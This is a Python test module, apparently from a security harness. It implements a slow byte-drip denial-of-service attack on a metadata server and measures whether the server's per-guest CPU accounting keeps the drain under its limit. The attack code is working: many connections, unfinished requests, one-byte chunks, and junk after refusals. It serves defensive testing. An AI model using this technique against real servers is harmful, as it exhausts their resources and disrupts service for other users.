"""A guest sends its requests byte by byte, by all connections that it may have, and never ends one.

Each byte wakes the server, costs a call of the kernel's and a look, and no request is ever complete that could be charged. Heads, bodies, chunks of
one byte, and what follows a refusal, which is read and thrown away. Gained: the server's processor. In the way: what a guest sends is charged to
its port as it is read, and a guest that owes time is not read from for a while.
"""

import contextlib
import socket
import time

import attack
import space
from attack import Outcome
from field import METADATA, Field
from host import Host

CONNECTIONS = 60
HEAD = b"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n"
# What each kind begins with, and what follows it again and again.
KINDS = {
    "lines before a request": (b"", b"\r\n"),
    "a body": (b"PUT / HTTP/1.1\r\nHost: 169.254.169.254\r\nContent-Length: 65000\r\n\r\n", b"x"),
    "chunks": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1;" + b"a" * 200 + b"\r\nx\r\n"),
    "many chunks in each read": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 160),
    "bytes after a refusal": (b"nonsense\r\n\r\n", b"x" * 40),
}
# The processor time of the server for one guest, in seconds a second (`max-cpu-per-second` is 0.2), and what else it does.
MOST = 0.45


class Attack(attack.Attack):
    """One kind after the other."""

    hosts = ("address",)
    has_victims = False
    rest = 2.5
    no_proof = "no option takes reading out of the account; the program that charged replies alone spent 0.9 s a second"

    def attack(self, field: Field) -> None:
        """Drips."""
        kept: list[tuple[socket.socket, bytes]] = []
        sent, refused, number = 0, 0, 0
        kinds = list(KINDS.values())
        field.ready()
        while field.goes_on():
            while len(kept) < CONNECTIONS and not refused % 50 == 49:
                first, more = kinds[number % len(kinds)]
                number += 1
                one = socket.socket({4: socket.AF_INET, 6: socket.AF_INET6}[field.family])
                one.settimeout(1)
                try:
                    one.connect((METADATA[field.family], 80))
                    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                    one.send(first)
                except OSError:
                    refused += 1
                one.setblocking(False)
                kept.append((one, more))
            for entry in list(kept):
                try:
                    sent += entry[0].send(entry[1])
                except BlockingIOError:
                    pass
                except OSError:
                    entry[0].close()
                    kept.remove(entry)
        for one, _ in kept:
            with contextlib.suppress(OSError):
                one.close()
        field.report |= {"sent": sent, "connections": number}

    def during(self, host: Host, outcome: Outcome) -> None:
        """Measures the server."""
        time.sleep(2.5)
        begin, before = time.monotonic(), host.server.processor_seconds()
        time.sleep(4)
        outcome.host_report["share"] = (host.server.processor_seconds() - before) / (time.monotonic() - begin)

    def gained(self, outcome: Outcome) -> str | None:
        """Processor time."""
        if outcome.forger["sent"] < 20000:
            raise space.Failure(f"only {outcome.forger['sent']} bytes were sent: the attack does not work")
        share = outcome.host_report["share"]
        return f"the server spent {share:.2f} s a second on it" if share > MOST else None
